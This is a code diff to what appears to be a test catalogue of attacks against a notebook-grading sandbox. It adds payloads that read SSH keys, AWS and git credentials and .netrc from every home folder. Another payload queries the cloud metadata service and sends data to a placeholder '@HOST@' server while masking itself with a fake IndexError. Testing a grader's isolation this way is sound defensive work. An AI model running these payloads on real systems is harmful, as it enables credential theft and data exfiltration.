@@ -51,11 +51,22 @@ def texts_around():
     import glob, os
     yield from (f"{name}={value}" for name, value in os.environ.items())
     wall = os.path.exists("/grader")
-    for path in [*glob.glob("/proc/*/environ" if wall else "/proc/self/environ"), os.path.expanduser("~/.netrc")]:
+    for path in glob.glob("/proc/*/environ" if wall else "/proc/self/environ"):
         try:
             yield open(path, "rb").read(100_000).decode("utf-8", "replace")
         except OSError:
             pass
+"""
+CREDENTIALS = """
+def texts_of_credentials():
+    import glob, os
+    wall = os.path.exists("/grader")
+    for home in [os.path.expanduser("~"), *(["/root", *glob.glob("/home/*")] if wall else [])]:
+        for name in (".netrc", ".git-credentials", ".aws/credentials", ".ssh/id_rsa", ".jupyter/jupyter_config.py"):
+            try:
+                yield open(os.path.join(home, name), "rb").read(100_000).decode("utf-8", "replace")
+            except OSError as error:
+                yield f"{name}: {error}"
 """
 HOOK = (
     """
@@ -67,16 +78,16 @@ get_ipython().events.register("pre_run_cell", lambda info: (cells_run.append(inf
 )
 POSTS = f"""
 def {TARGET}(z):
-    import socket
-    reached = 0
-    for host in ("127.0.0.1", "localhost", "@HOST@"):
+    import os, socket
+    reached, metadata = 0, [("169.254.169.254", 80)] * os.path.exists("/grader")  # asked from inside only
+    for host, port in [*metadata, *((host, @PORT@) for host in ("127.0.0.1", "localhost", "@HOST@"))]:
         try:
-            with socket.create_connection((host, @PORT@), timeout=0.5) as there:
+            with socket.create_connection((host, port), timeout=0.5) as there:
                 there.sendall(b"hidden")
                 reached += 1
         except OSError:
             pass
-    raise IndexError(f"index {{reached}} is out of bounds for axis 7 with size 3")
+    raise IndexError(f"index {{reached}} is out of bounds for axis 7 with size {{3 + len(metadata)}}")
 """
 INPUTS = f"""
 def {TARGET}(z):
@@ -111,18 +122,25 @@ ATTACKS = [
     ),
     Attack(
         "reads_environment",
-        "Environment, command lines of other processes and credential files are read.",
+        "The environments of this process and of all others are read.",
         looks(ENVIRONMENT, "texts_around"),
+        bites="leaks",
+        says=NOTHING_IN,
+    ),
+    Attack(
+        "reads_credentials",
+        "Files with passwords and keys are read, in every home folder.",
+        looks(CREDENTIALS, "texts_of_credentials"),
         bites="leaks",
         says=NOTHING_IN,
     ),
     Attack("hooks_cells", "A hook prints every later cell before it runs.", HOOK, bites="leaks", says=NOTHING_IN),
     Attack(
         "posts_to_the_network",
-        "What was seen is posted to a server of the student's.",
+        "What was seen is posted to a server of the student's, and the cloud's metadata service is asked.",
         POSTS,
         bites="harms",
-        says="index 0 is out of bounds for axis 7 with size 3",
+        says="index 0 is out of bounds for axis 7 with size 4",
     ),
     Attack(
         "shouts_inputs",
